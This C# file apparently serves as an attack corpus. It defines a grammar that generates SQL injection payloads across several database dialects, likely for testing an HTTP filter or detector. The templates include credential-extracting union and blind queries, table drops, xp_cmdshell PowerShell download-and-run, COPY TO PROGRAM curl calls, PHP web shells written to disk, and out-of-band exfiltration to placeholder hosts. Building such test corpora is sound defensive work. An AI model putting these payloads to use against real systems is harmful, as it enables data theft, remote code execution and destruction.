namespace Weir.Http.Corpus.Attacks;

/// <summary>SQL injection in the dialects of MySQL, PostgreSQL, SQL Server, Oracle and SQLite.</summary>
internal static class Sqli
{
    public const string Text = """"
        §attack
        8× «lead»«space»«boolean»«tailpart»
        7× «lead»«space»«unionq»«tailpart»
        5× «loginform»
        4× «lead»«space»«timed»«tailpart»
        4× «lead»«space»«errorbased»«tailpart»
        4× «lead»«stack»«tailpart»
        4× «probe»
        2× «wholeinjected»
        2× «lead»«space»«blind»«tailpart»
        2× «lead»«space»«outofband»«tailpart»
        3× «disguised»
        2× «insert»
        2× «injson»
        «functioncall»
        2× «wholestatement»

        ¶ ---- where the value ends and the injection begins ----
        §lead
        8× '
        5× «num»
        3× "
        3× «word»'
        2× «num»'
        2× -«num»
        2× ')
        2× «num»)
        «word»"
        «")¦'))¦"))¦')))¦%'¦%')¦`¦`)¦\'¦''¦'"¦]¦'}¦\"¦');¦'||¦"||¦@'¦'%¦%'))»
        -«#1-9999»'
        «#1-9999») 
        «word»%'
        3× «phrase»'
        «phrase»"
        «phrase»')
        «phrase»' 
        «word»')
        «num»%27
        '«#1-9»
        «num»/**/
        «num»"
        «num»"))
        «letter»%27
        ″
        ´
        ’
        %bf%27
        %df'
        %2527
        §space
        8× ␠
        /**/
        +
        «%20¦%09¦%0a¦%0b¦/*«letter»*/¦␉¦␤¦%a0¦  ¦/*!*/»
        2×
        §sqlop
        «<>¦<=>¦!=¦<¦>¦>=¦<=¦=¦div¦mod¦%¦^¦|¦&¦<<¦>>¦||¦&&¦like¦not like¦rlike¦regexp¦sounds like¦is¦is not¦xor¦collate¦~*¦!~¦@>¦similar to¦glob¦:=¦- -¦ ! ¦in(1)¦between 0 and 9 and»
        §tailpart
        6× «comment»
        5×
        «quotetail»
        §comment
        6× --␠
        6× --
        4× #
        3× --+
        2× -- -
        2× /*
        %23
        ;%00
        --␠«rand»
        -- «word»
        --%20
        `
        #«rand»
        ;--
        ;#
        */
        %00
        /*«rand»
        ;␀
        «␠and 'a'='a¦ and 1=1¦ limit 1»«-- ¦#»
        §quotetail
        3× ␠and '«$a:word»'='«$a»
        2× ␠and '«$a:num»'='«$a»
        ␠or '«letter»'='«letter»
        ␠and ('«$a:letter»'='«$a»
        ␠and "«$a:letter»"="«$a»
        ␠and '%'='
        ||'
        ␠and 1=1
        +'
        '
        ")
        )
        ␠and '1'='1
        ␠and ''='

        ¶ ---- always true, always false ----
        §boolean
        8× «orword» «cond»
        3× «orword» «cond» «orword» «cond»
        2× «orword» not «cond»
        «orword» («cond»)
        2× «orword» exists(«querypart»)
        2× «orword» «expr» «between «num» and «num»¦in («num»,«num»)¦like '%«¦«letter»%»'¦is not null¦is null¦like «expr»¦rlike '^«letter»'¦regexp '.'¦not like '«letter»'¦not in (0)¦sounds like '«word»'»
        2× «orword» 1 «group by¦order by» «#1-20»
        «havingkw» «cond»
        «orword»«cond»
        «orword»(«cond»)
        «orword» (select «num»)=«num»
        «orword» if(«cond»,«num»,«num»)
        «orword» (case when «cond» then «num» else «num» end)=«num»
        «orword»«+¦-¦!¦~»«num»=«num»
        «rlike¦regexp» (select (case when («cond») then «num» else «hexlit» end))
        «orword» ascii(substr((«querypart»),«#1-20»,1))>«#32-127»
        and «num»=«num» «orword» 'a'='a
        '='
        '-'
        '*'
        '^'
        '&'
        '|'
        '<>'«num»
        '='' or '
        «orword» true
        «orword» «word» is not null
        «orword» «num»
        «orword» '«letter»'
        §orword
        6× or
        4× and
        3× OR
        3× AND
        «||¦&&¦xor¦XOR¦Or¦oR¦aNd¦div¦|¦&¦^¦*¦RLIKE¦not¦oorr¦aandnd¦%26%26¦or/**/¦and/**/»
        §havingkw
        «having¦HAVING¦group by «ident» having»
        §cond
        5× «$n:num»=«$n»
        3× '«$s:word»'='«$s»
        3× «#1-9999»=«#1-9999»
        2× "«$s:letter»"="«$s»
        2× '«$s:num»'='«$s»
        '«$s:word»'='«$s»
        «$n:num»«>¦<¦<>¦!=¦<=¦>=¦ like ¦ is ¦<=>»«num»
        '«$s:letter»' like '«$s»'
        («$n:num»)=(«$n»)
        «$n:num» = «$n»
        ''=''
        ''='
        1=1
        '1'='1
        1
        true
        2>1
        «num» like «num»
        «hexlit»=«hexlit»
        char(«$c:asciicode»)=char(«$c»)
        «ident»=«ident»
        «ident» like '«letter»%'
        «ident»='«word»
        «ident» is not null
        length(«ident»)>«#0-9»
        «scalarfn»«=¦>¦<»«num»
        (select count(*) from «table»)>«#0-9»
        «$x:query1»=«$x»
        «#1-9999»*«#1-99»=«#1-999999»
        «scalarfn» like '%«letter»%'
        @@«sysvar»«=¦ like ¦>»«num»
        ord(mid((«query1»),«#1-30»,1))>«#32-127»
        unicode(substring((«query1»),«#1-30»,1))>«#32-127»
        substring(«scalarfn»,«#1-30»,1)='«letter»'
        (select substring(«col»,«#1-30»,1) from «table» «limit»)='«letter»'
        exists(select * from «table»)
        row(«#1-9»,«#1-9»)>(select count(*),concat(«scalarfn»,floor(rand(0)*2))x from information_schema.tables group by x)
        §asciicode
        «#48-122»

        ¶ ---- names, columns, tables, functions ----
        §ident
        3× id
        2× «username¦password¦user¦pass¦email¦name¦user_id¦login¦uname¦user_name¦passwd¦userid¦title¦price¦1»
        «word»
        «letter»
        «table».«col»
        §col
        3× «password¦username¦user¦pass¦email¦login¦name¦id»
        2× «table_name¦column_name¦schema_name¦table_schema¦passwd¦pwd¦credit_card¦ssn¦hash¦token¦admin_pass¦user_login¦user_pass¦authentication_string¦sql¦owner¦usename»
        *
        «rand»
        §table
        4× users
        2× «admin¦user¦accounts¦members¦customers¦login¦administrators¦mysql.user¦wp_users¦tbl_user¦employees¦orders¦products»
        3× information_schema.«tables¦columns¦schemata¦processlist»
        «sysobjects¦syscolumns¦sys.tables¦sys.databases¦master..sysdatabases¦master..sysobjects¦msysobjects¦sqlite_master¦sqlite_schema¦pg_tables¦pg_user¦pg_shadow¦pg_catalog.pg_tables¦pg_database¦dual¦all_tables¦all_users¦user_tables¦v$version¦sys.user$¦all_tab_columns¦dba_users¦sysmaster:systables¦rdb$database¦sysibm.sysdummy1¦syscat.tables¦mysql.db¦performance_schema.threads»
        «rand»
        INFORMATION_SCHEMA.«TABLES¦COLUMNS¦PLUGINS¦COLLATIONS¦CHARACTER_SETS»
        §sysvar
        «version¦hostname¦datadir¦basedir¦servername¦language¦spid¦version_compile_os¦global.secure_file_priv¦tmpdir»
        §scalarfn
        4× version()
        4× user()
        4× database()
        3× @@version
        «current_user¦current_user()¦system_user()¦session_user()¦schema()¦@@«sysvar»¦user_name()¦db_name()¦db_name(«#0-20»)¦host_name()¦sqlite_version()¦current_database()¦current_schema()¦inet_server_addr()¦sys_context('userenv','current_user')¦banner¦suser_sname()¦connection_id()¦pg_backend_pid()¦VERSION()¦DATABASE()¦USER()¦CURRENT_USER¦is_srvrolemember('sysadmin')¦load_file('«unixfile»')¦load_file(0x«unixfile→hex»)¦pg_read_file('«unixfile»')¦utl_inaddr.get_host_address('«evilhost»')¦pg_ls_dir('/')¦random()¦crc32(«num»)¦md5(«num»)¦unhex(hex(«num»))¦last_insert_rowid()»
        §hexlit
        3× 0x«rand→hex»
        0x«word→hex»
        0x«hexdigit*2-16»
        X'«rand→hex»'
        b'«bit*3-8»'
        §bit
        «0¦1»
        §strexp
        3× '«word»'
        2× «hexlit»
        char(«rand→codes»)
        CHAR(«rand→codes»)
        «chrseq»
        concat('«letter*1-3»','«letter*1-3»')
        «'«word→concatsql»'¦unhex('«rand→hex»')¦chr(«#97-122»)||chr(«#97-122»)¦_latin1'«word»'¦N'«word»'¦nchar(«#97-122»)»
        §chrseq
        3× CHR(«#65-122»)||CHR(«#65-122»)||CHR(«#65-122»)
        2× CHAR(«#65-122»)+CHAR(«#65-122»)+CHAR(«#65-122»)
        (CHR(«#65-122»)||CHR(«#65-122»)||CHR(«#65-122»)||CHR(«#65-122»))
        CONCAT(CHAR(«#65-122»),CHAR(«#65-122»))
        §expr
        4× «num»
        2× «ident»
        2× «strexp»
        2× «scalarfn»
        («query1»)
        null
        §limit
        3× limit 1
        3× limit «#0-30»,1
        2× limit 1 offset «#0-30»
        «where rownum=1¦fetch first 1 rows only¦offset «#0-9» rows fetch next 1 rows only¦where id=«num»¦order by «#1-9» desc»
        §query1
        3× select «col» from «table» «limit»
        2× select «scalarfn»
        select count(*) from «table»
        select top 1 «col» from «table»
        select group_concat(«col»«¦,«hexlit»,«col»¦ separator «hexlit»») from «table»
        select concat(«col»,««hexlit»¦':'»,«col») from «table» «limit»
        select distinct «col» from «table»
        select string_agg(«col»,',') from «table»
        select listagg(«col»,',') within group (order by 1) from «table»
        select cast(count(*) as varchar) from «table»
        select ifnull(cast(«col» as char),«hexlit») from «table» «limit»
        select hex(«col») from «table» «limit»
        select table_name from information_schema.tables where table_schema=«database()¦«strexp»» «limit»
        select column_name from information_schema.columns where table_name=«strexp» «limit»
        §querypart
        5× «query1»
        2× select * from «table»«¦ where «cond»»
        select «num»
        select «col» from «table» where «cond»
        select 1 from(select count(*),concat((«query1»),floor(rand(0)*2))x from information_schema.tables group by x)a

        ¶ ---- union ----
        §unionq
        6× «unionword» «selectword» «cols»
        6× «unionword» «selectword» «cols» from «table»
        2× «unionword» «selectword» «cols» from «table» where «cond»
        «unionword» «selectword» «cols» from «table» «limit»
        «unionword»(«selectword»(«num»),«scalarfn»,(«num»))
        «unionword» (select * from «table»)
        «unionword» «selectword» * from (select «num»)a join (select «num»)b«¦ join (select «num»)c»
        «unionword» «selectword» «cols» «into outfile¦into dumpfile» '«/var/www/html/«rand».php¦c:/xampp/htdocs/«rand».php¦/tmp/«rand»»'
        and «num»=«num» «unionword» «selectword» «cols»
        order by «#1-99»
        group by «#1-20»
        group by «ident»,«#1-9» having «cond»
        order by «ident» «asc¦desc»,(select «num» from «table»)
        «order by¦group by» (select 1 union select 2)
        limit «#0-9»,«#1-9» «unionword» «selectword» «cols»
        limit 1,1 procedure analyse(extractvalue(rand(),concat(0x3a,«scalarfn»)),1)
        procedure analyse()
        intersect select «cols» from «table»
        except select «cols» from «table»
        minus select «cols» from «table»
        values(«num»,«num»,«num»)
        «unionword» values row(«num»,«num»)
        «unionword» table «table»
        §unionword
        5× union
        4× union all
        3× UNION
        3× UNION ALL
        union distinct
        «UnIoN¦uNioN aLl¦/*!union*/¦/*!50000union*/ all¦%55nion¦uni/**/on¦UNIunionON¦union/*«letter»*/all¦unioN/**/¦/*!«#10000-60000»UNION*/»
        §selectword
        6× select
        5× SELECT
        «SeLeCt¦sElEcT¦/*!select*/¦/*!50000select*/¦sel/**/ect¦SELselectECT¦select distinct¦select all¦%53elect¦select top 1¦/*!«#10000-60000»SELECT*/¦select@»
        §cols
        5× «nulls»
        5× «numbers»
        4× «colmix»
        *
        «colitem»
        §nulls
        null«commanull*0-12»
        NULL«commabignull*0-12»
        §commanull
        ,null
        §commabignull
        ,NULL
        §numbers
        1,2
        1,2,3
        1,2,3,4
        1,2,3,4,5
        1,2,3,4,5,6
        1,2,3,4,5,6,7,8
        1,2,3,4,5,6,7,8,9,10
        «num»«commanum*0-9»
        «digit»«digit»«digit»«digit»«commanum4*1-9»
        1,«scalarfn»,3
        1,2,«scalarfn»,4
        1,group_concat(«col»),3
        «num»,«num»,«num»#1
        '1','2'«¦,'3'»
        @,@,@
        §commanum
        ,«num»
        §commanum4
        ,«#1000-9999»
        §colmix
        «colitem»,«colitem»
        «colitem»,«colitem»,«colitem»
        «colitem»,«colitem»,«colitem»,«colitem»,«colitem»
        §colitem
        4× «num»
        4× «scalarfn»
        3× null
        3× «col»
        2× «strexp»
        concat(«col»,«hexlit»,«col»)
        concat(«hexlit»,«scalarfn»,«hexlit»)
        concat_ws(«hexlit»,«scalarfn»,«scalarfn»)
        group_concat(«col»)
        group_concat(table_name)
        («query1»)
        «col»||'«:¦~»'||«col»
        «chrseq»||«col»||«chrseq»
        load_file('«unixfile»')
        unhex(hex(«scalarfn»))
        convert(«scalarfn» using latin1)
        cast(«scalarfn» as «char¦varchar¦nvarchar(4000)»)
        @@«sysvar»
        aes_decrypt(aes_encrypt(«scalarfn»,0x71),0x71)
        json_arrayagg(concat_ws(0x3a,table_schema,table_name))
        "<?php «system¦eval»($_GET['«letter»']); ?>"
        '<script>alert(1)</script>'

        ¶ ---- time ----
        §timed
        5× «orword» sleep(«#1-30»)
        3× «orword» (select «#1-9999» from (select(sleep(«#1-30»)))«rand»)
        2× «orword» if(«cond»,sleep(«#1-30»),«num»)
        2× «orword» benchmark(«#1-99»000000,«md5¦sha1¦encode»(«'«letter»'¦1¦'MSG','by 5 seconds'»))
        «orword» (select * from (select(sleep(«#1-20»)))a)
        2× «orword» «#1-9999»=(select «#1-9999» from pg_sleep(«#1-30»))
        «orword» (select 1 from pg_sleep(«#1-30»)) is «¦not »null
        «orword» pg_sleep(«#1-30»)
        «||¦+»(select sleep(«#1-30»))«||'¦+'¦»
        2× ;waitfor delay '0:0:«#1-30»'
        if(«cond») waitfor delay '0:0:«#1-30»'
        waitfor delay '«0¦00»:«0¦00»:«#1-30»'
        waitfor time '«#0-23»:«#10-59»'
        «orword» «#1-9999»=dbms_pipe.receive_message(«'«letter»'¦«chrseq»»,«#1-30»)
        «orword» dbms_pipe.receive_message(('«letter»'),«#1-30») is null
        «orword» (select case when («cond») then dbms_pipe.receive_message('a',«#1-20») else null end from dual) is null
        «orword» dbms_lock.sleep(«#1-30»)=«num»
        «orword» «#1-9999»=like('abcdefg',upper(hex(randomblob(«#1-9»00000000/2))))
        «orword» «num»=(select count(*) from generate_series(1,«#1-9»000000))
        «orword» (select count(*) from sysusers as sys1,sysusers as sys2,sysusers as sys3,sysusers as sys4)>«num»
        «orword» (select count(*) from information_schema.columns A,information_schema.columns B,information_schema.columns C)
        «orword» elt(«#1-9999»=«#1-9999»,sleep(«#1-30»))
        «orword» rlike sleep(«#1-30»)
        xor(if(now()=sysdate(),sleep(«#1-30»),0))xor
        «*¦-¦+¦/¦%»sleep(«#1-30»)«*1¦»
        (select(0)from(select(sleep(«#1-30»)))v)/*'+(select(0)from(select(sleep(«#1-30»)))v)+'"+(select(0)from(select(sleep(«#1-30»)))v)+"*/
        «orword» case when «cond» then pg_sleep(«#1-30») else pg_sleep(0) end
        order by sleep(«#1-30»)
        procedure analyse(extractvalue(«#1-9999»,concat(0x5c,(benchmark(«#1-9»000000,md5(0x«hexdigit*8»))))),1)
        make_set(«#1-9999»=«#1-9999»,sleep(«#1-9»))

        ¶ ---- errors that tell ----
        §errorbased
        4× «orword» extractvalue(«#1-9999»,concat(«0x7e¦0x5c¦0x3a¦'~'¦char(126)»,(«query1»)«¦,0x7e»))
        4× «orword» updatexml(««#1-9999»¦null¦1»,concat(«0x7e¦0x5c¦0x2e¦0x3a¦'~'»,(«query1»)«¦,0x7e»),««#1-9999»¦null¦1»)
        3× «orword» (select 1 from(select count(*),concat((«query1»),floor(rand(0)*2))x from information_schema.«tables¦plugins¦character_sets» group by x)a)
        2× «orword» (select «#1-9999» from(select count(*),concat(0x«hexdigit*10»,(select (elt(«$n:num»=«$n»,1))),0x«hexdigit*10»,floor(rand(0)*2))x from information_schema.plugins group by x)a)
        3× «orword» «num»=convert(int,(««query1»¦«scalarfn»»))
        2× «orword» «num»=cast((«query1») as «int¦numeric¦integer¦signed»)
        «orword» «#1-9999»=cast((«chrseq»)||(select (case when («cond») then 1 else 0 end))::text||(«chrseq») as numeric)
        «orword» «#1-9999» in (select ((«chrseq»+(select (case when («cond») then char(49) else char(48) end))+«chrseq»)))
        «orword» exp(~(select * from («query1»)a))
        «orword» (select * from(select name_const(version(),1),name_const(version(),1))a)
        «orword» «geometrycollection¦polygon¦multipoint¦linestring¦multipolygon»((select * from(select * from(«query1»)a)b))
        «orword» gtid_subset(concat(0x7e,(«query1»)),«#1-9999»)
        «orword» json_keys((select convert((«query1») using utf8)))
        «orword» «num»=ctxsys.drithsx.sn(«num»,(«query1»))
        «orword» «num»=utl_inaddr.get_host_«address¦name»((«query1»))
        «orword» (select upper(xmltype(chr(60)||chr(58)||(«query1»)||chr(62))) from dual) is not null
        «orword» dbms_utility.sqlid_to_sqlhash((«query1»)) is not null
        «orword» ordsys.ord_dicom.getmappingxpath((«query1»),1,1)=1
        «orword» «num»=(select «num»/0 from «table» where «cond»)
        «orword» 1/(case when «cond» then 0 else 1 end)=1
        having «num»=«num»
        «orword» (select 1 and row(1,1)>(select count(*),concat(«scalarfn»,0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1))
        «orword» (select cast(«scalarfn» as int))=1
        «orword» bigint(«strexp»)=1
        «orword» abs(-9223372036854775808)=0
        «orword» load_extension('«rand»')
        «orword» json(«strexp»)
        «orword» xmltype('«rand»') is null
        procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)

        ¶ ---- further statements ----
        §stack
        6× ;«space»«statement»
        ;«statement»
        2× «;;¦);¦'; ¦%3b¦; »«statement»
        «␤¦%0a»«go¦GO»«␤¦%0a»«statement»
        begin «statement»; end
        §statement
        4× drop table «table»«¦ cascade»
        3× select «scalarfn»
        3× select sleep(«#1-30»)
        3× waitfor delay '0:0:«#1-30»'
        3× exec «master..¦master.dbo.¦»xp_cmdshell«¦(»'«wincmd»'«)¦»
        2× insert into «table»«¦(«col»,«col»)» values(«'«word»','«rand»'¦«num»,'«word»'»)
        2× update «table» set «col»=«'«word»'¦«num»¦md5('«word»')»«¦ where «cond»¦ where id=«num»»
        2× delete from «table»«¦ where «cond»»
        2× select pg_sleep(«#1-30»)
        2× shutdown«¦ with nowait»
        select * from «table»
        truncate table «table»
        alter table «table» «drop column «col»¦add «col» varchar(«#1-255»)»
        «drop¦create» database «word»
        create table «rand»(«letter» «text¦varchar(8000)»)
        create user «rand» identified by '«rand»'
        grant all on *.* to '«word»'@'%'
        exec sp_«configure 'show advanced options',1¦configure 'xp_cmdshell',1;reconfigure¦addlogin '«word»','«rand»'¦password null,'«rand»','sa'¦makewebtask 'c:\inetpub\wwwroot\«rand».html','select * from «table»'¦oacreate 'wscript.shell',@«letter» output¦executesql N'«query1»'¦addsrvrolemember '«word»','sysadmin'¦who¦help¦tables»
        exec xp_«regread 'HKEY_LOCAL_MACHINE','«rand»','«word»'¦dirtree '\\«evilhost»\«letter»'¦fileexist '\\«evilhost»\«letter»'¦subdirs '\\«evilhost»\«letter»'¦regwrite¦servicecontrol 'start','schedule'¦availablemedia¦loginconfig¦ntsec_enumdomains»
        exec «master..»xp_dirtree '//«evilhost»/«letter»'
        execute immediate '«query1»'
        declare @«$v:letter» «varchar(«#100-8000»)¦nvarchar(4000)¦int» «set¦select» @«$v»=«0x«rand→hex»¦(«query1»)» exec(@«$v»)
        declare @«$v:letter» varchar(99);set @«$v»='\\«oasthost»\«letter»';exec master.dbo.xp_dirtree @«$v»
        copy «table»«¦(«col»)» «from program '«shellcmd»'¦to '/tmp/«rand»'¦from '«unixfile»'¦to program 'curl «evilurl»'»
        copy (select '') to program '«shellcmd»'
        create «or replace »function «rand»(text) returns text as $$ «query1» $$ language sql
        create or replace function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' language 'c' strict
        select lo_import('«unixfile»')
        select load_extension('\\«evilhost»\«letter».dll','«rand»')
        attach database '/var/www/html/«rand».php' as «letter»
        select * into outfile '/var/www/html/«rand».php' from «table»
        select '<?php system($_GET["«letter»"]);?>' into outfile '«/var/www/html/«rand».php¦/tmp/«rand»»'
        load data «local »infile '«unixfile»' into table «table»
        set @«$v:letter»=«hexlit»;prepare «letter» from @«$v»;execute «letter»
        handler «table» «open¦read first»
        show «tables¦databases¦columns from «table»¦grants¦processlist¦variables»
        bulk insert «rand» from '«winfile»'
        backup database «word» to disk='\\«evilhost»\«letter».bak'
        select * from openrowset('SQLOLEDB','server=«evilhost»;uid=sa;pwd=«rand»','select 1')
        declare begin «statement»; end;
        «commit¦rollback¦go¦vacuum¦analyze»
        if(«cond») «select 1 else drop table «table»¦waitfor delay '0:0:«#1-9»'»
        rename table «table» to «rand»
        do sleep(«#1-9»)
        call «word»(«num»)
        merge into «table» using dual on (1=1) when matched then update set «col»='«word»'
        §wincmd
        «dir¦whoami¦ping «ip»¦net user¦ipconfig¦nslookup «oasthost»¦dir c:\¦type c:\boot.ini¦net user «rand» «rand» /add¦powershell -c iex((new-object net.webclient).downloadstring("«evilurl»"))»

        ¶ ---- one bit at a time, and other ways out ----
        §blind
        3× «orword» «substrfn»((«query1»),«#1-40»,1)«=¦>¦<»«'«letter»'¦«hexlit»¦char(«#48-122»)»
        3× «orword» ascii(«substrfn»((«query1»),«#1-40»,1))«=¦>¦<¦!=»«#32-127»
        2× «orword» ascii(«substrfn»(«scalarfn»,«#1-40»,1))«=¦>¦<»«#32-127»
        2× «orword» length(««scalarfn»¦(«query1»)»)«=¦>¦<»«#1-50»
        «orword» ord(mid((select ifnull(cast(«col» as char),0x20) from «table» «limit»),«#1-40»,1))>«#32-127»
        «orword» (select «col» from «table» «limit»)«like¦regexp¦rlike» «'«letter»%'¦'^«letter»'¦binary '«letter»%'»
        «orword» (select count(«col») from «table» where «col» like '«letter»%')>0
        «orword» if(«substrfn»(«scalarfn»,1,1)='«letter»',1,(select table_name from information_schema.tables))
        «orword» (select 'x' from «table» «limit»)='x'
        «orword» (select case when («cond») then 1 else 1/0 end«¦ from dual»)=1
        «orword» (select case when («cond») then to_char(1/0) else null end from dual) is null
        «orword» instr((«query1»),'«letter»')>0
        «orword» find_in_set(«substrfn»(«scalarfn»,1,1),0x«hexdigit*12»)
        «orword» strcmp(left(«scalarfn»,«#1-9»),'«rand»')
        «orword» left(«scalarfn»,1)=«'«letter»'¦«#1-9»»
        «orword» bit_count(«num»)=«num»
        order by (case when («cond») then «ident» else «ident» end)
        order by if(«cond»,«ident»,«ident»)
        «,¦||»(select case when «cond» then 1 else 1/0 end)
        and (select «substrfn»(group_concat(«col»),«#1-9»,1) from «table») > '«letter»'
        §substrfn
        «substring¦substr¦mid¦SUBSTRING¦SUBSTR¦MID»
        §outofband
        2× «orword» load_file(concat('\\\\',(«query1»),'.«oasthost»\\«letter»'))
        2× «orword» (select utl_http.request('http://«oasthost»/'||(«query1»)) from dual) is not null
        «orword» (select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % «rand» SYSTEM "http://'||(«query1»)||'.«oasthost»/"> %«rand»;]>'),'/l') from dual) is not null
        «orword» (select httpuritype('http://«oasthost»/'||user).getclob() from dual) is not null
        «orword» (select utl_inaddr.get_host_address((«query1»)||'.«oasthost»') from dual) is not null
        «orword» (select dbms_ldap.init(('«oasthost»',80)) from dual) is not null
        «orword» exists(select * from fn_xe_file_target_read_file('C:\*.xel','\\'+(«query1»)+'.«oasthost»\1.xem',null,null))
        union select 1,load_file(concat('\\\\',«scalarfn»,'.«oasthost»\\a'))
        ;declare @q varchar(99);set @q='\\'+(«query1»)+'.«oasthost»\a';exec master..xp_dirtree @q
        «orword» (select dblink_connect('host=«oasthost» user=a password=a dbname=a'))
        into outfile '\\\\«oasthost»\\«letter»'
        union select * from openrowset('SQLOLEDB';'«evilhost»';'sa';'«rand»','select 1')

        ¶ ---- forms for logging in ----
        §loginform
        5× «lq»«or2»«ltrue»«lend»
        4× «lname»«lq»«comment»
        3× «lname»«lq»«or2»«ltrue»«lend»
        2× «lq»=«lq»
        2× «lq»«or2»«lq»«lq»=«lq»
        2× «lq»«or2»«ident»«␠like ¦ = ¦=»«lq»«%¦«word»»««lq»¦»«lend»
        2× «lname»«lq»)«¦)»«comment»
        «lq»=0«comment»
        «lq»«-¦*¦+¦&¦^¦|¦%»«lq»«¦«comment»»
        «lq»«or2»1«¦ limit 1»«comment»
        «lname»«lq» and 1=0 union all select '«word»','«hexdigit*32»'«comment»
        «lname»«lq» or 1=1 limit «#0-9»,1«comment»
        «lq»union select «cols»«comment»
        ffifdyop
        \«comment»
        or 1=1«comment»
        «lname»\
        «lq»«lq»«or2»«ltrue»«lend»
        «lname»' or 'x'='x'; «statement»--
        «lq»||«lq»
        §lq
        8× '
        3× "
        2× ')
        «")¦'))¦\'¦`¦''»
        §lname
        5× admin
        «administrator¦root¦user¦test¦«word»¦1¦sa¦guest»
        §or2
        4× ␠or␠
        3× ␠OR␠
        2× or
        2× ||
        «/**/or/**/¦ || ¦+or+¦%20or%20¦ oR ¦ xor ¦␉or␉¦ && ¦ and ¦)or(»
        §ltrue
        4× 1=1
        3× '1'='1
        2× '«$a:letter»'='«$a»
        2× '«$a:word»'='«$a»
        2× «$a:num»=«$a»
        "«$a:letter»"="«$a»
        ''='
        1
        true
        2>1
        '1'='1'
        '«$a:letter»'='«$a»'
        ('1'='1
        ('1')=('1
        1 like 1
        «ident» is not null
        'a' like 'a
        not 1=2
        1=1 or ''='
        '7659'='7659
        §lend
        5× «comment»
        4×
        2× ) «comment»
        ␠or '«letter»'='«letter»
        «')¦#¦/*¦)¦%00¦')--»

        ¶ ---- probes ----
        §wholeinjected
        select «col» from «table» where «ident» = '«lead» «boolean»«tailpart»
        select * from «table» where «ident»=«num»«tightor»«cond»«comment?»
        select * from «table» where «ident» = '«word»'«tightor»«cond»«comment?»
        select count(*) from «table» as t1,«table» as t2,«table» as t3«tightor»«cond»
        select case when «cond» then «num» else «num» end«¦ from «table»»
        select «scalarfn» from «table» where «cond»«¦ union «selectword» «cols»»
        select * from generate_series(1,«#1-9»000000)
        select (case when («cond») then «num» else (select «num» union select «num») end)
        select «ident» from «table» where «ident» like '%«word»%'«tightor»«cond»
        update «table» set «col»='«word»' where «ident»='«word»'«tightor»«cond»
        delete from «table» where «ident»=«num»«tightor»«cond»
        insert into «table»(«col»,«col») values('«word»',(«query1»))
        «query1» union «selectword» «cols» from «table»
        if «cond» «statement»
        call regexp_substring(repeat(«strexp»,«#1-9»00000000),null)
        «num»«tightor»«num»=(select count(*) from «table» as t1,«table» as t2)
        §tightor
        ␠or␠
        ␠and␠
        ␠OR␠
        ␠||␠
        §probe
        3× «phrase»'«orword»'«$p:letter»'='«$p»
        2× «phrase»" «orword» "«$p:num»"="«$p»
        2× «phrase»' «delete from¦drop table¦update¦insert into¦exec¦select * from» «table»«¦--¦;--»
        2× «word»'«space»«sqlop»«space»'«word»
        «letter»'«sqlop»'«letter»
        «'¦"»«sqlop»«'¦"»
        «num»«space»«sqlop»«space»«num»«¦--¦#»
        «num»;«call ¦exec »«letter»(@«word»,@«letter»)«¦--»
        1e«#1-9»«'¦ or 1=1¦ union select 1»
        «num»)«orword»(«num»=«num»
        3× «lq»«space»«orword»«space»«shortcond»«shortend»
        2× «num»«lq»«shortend»
        2× «lq»«shortop»«shortcond»«shortend»
        2× «word»«lq»«shortend»
        «lq»«lq»«shortend»
        «num»«shortop»«shortcond»«shortend»
        4× «lead» order by «#1-60»«comment?»
        3× «lead» group by «#1-30»«comment?»
        2× «num»«'¦"¦')¦")»«--¦#¦;--¦ --»
        2× «'¦"¦')¦'))¦\'»«;¦--¦#¦;--¦/*¦ -- -»
        2× «num» and «num»=«num»
        2× «num»' and '«num»'='«num»
        2× «word»' and «num»=«num»--
        «num»-«num»«--¦'¦ ¦#»
        «num»*«num»'«--¦»
        «num»'||'«num»
        «word»'||'«word»
        '«||¦+¦ »'«word»
        «word»'«+¦ »'«word»
        «''¦'"¦';¦'"`¦'`"(¦'"),.(¦)('"¦'"\()¦%27%22¦'"<>«rand»¦'«"»'»«rand»«comment?»
        «word»'"(),.
        «num») and («num»=«num»
        «num») or («num»=«num»
        «num»)) or (('x'))=(('x
        «num» having «num»=«num»--
        «num»;--
        1%27%20or%20%271
        «num»' --
        «num»/*!«#10000-60000» and 1=«#0-1»*/
        «word»%' and '%'='
        «word»%' and 1=1 and '%'='
        if(«num»=«num»,«num»,«num»)
        case when «cond» then «num» else «num» end
        (select «num»)
        (select(«num»)from(«table»)where(«cond»))
        «num»«/¦*¦+¦-»(select «num»)
        '+(select «num»)+'
        '||(select ''«¦ from dual»)||'
        «ident» and «num»=«num»
        -«#1-9999» «orword» «cond»
        ,(select «num» from «table»)
        @@«sysvar»
        convert(int,@@version)
        1;select pg_sleep(«#1-9»)
        sleep(«#1-30»)«#¦--¦»
        «sleep¦benchmark»(«#1-30»)/*' or sleep(«#1-9») or '" or sleep(«#1-9») or "*/

        ¶ ---- without blanks, with comments, with encodings ----
        §disguised
        4× «plain→sqlblank»
        3× «plain→case»
        4× «plain→spaced»
        «wholeinjected→spaced»
        2× «plain→case→sqlblank»
        2× «plain→url»
        «plain→urllower»
        «plain→urltwice»
        «plain→urlsome»
        «plain→plus»
        «plain→percentu»
        2× «num»/*!«#10000-60000»union*//*!«#10000-60000»select*/«cols»
        2× «lead»/*!«unionq» /*!«selectword»*/ «cols»*/
        «lead»«or3»(«cond»)«or3»'
        «num»'«or3»(select(«num»)from(«table»))«or3»'
        «lead»union(select(«num»),(«scalarfn»),(«num»))«comment»
        «lead»%0Aunion%0Aselect%0A«cols→url»«comment»
        «lead»/*«rand»*/union/*«rand»*/select/*«rand»*/«cols»
        «lead»un«ion¦<>ion¦/**/ion» se«lect¦<>lect¦/**/lect» «cols»
        «num».«union¦e0union» select «cols»
        «num»e«#0-9»union select «cols»
        «num»'-(case when «cond» then 0 else 1 end)-'
        «lead»{«letter» «num»}union select «cols»
        «lead»^(«query1»)^«lead»
        «lead»%«hexdigit»«hexdigit»%27 «orword» «cond»
        «lead»&&«cond»%23
        «lead»-0 union select «cols»
        «num»'!='«num»'«or3»'«num»
        «lead»=\N/**/union/**/select «cols»
        «lead» or «hexlit» like «hexlit»«comment»
        «lead»;set @«$a:letter»=«hexlit»«rand→hex»;prepare «letter» from @«$a»;execute «letter»
        §or3
        «||¦&&¦or¦and¦^¦-¦+¦*»
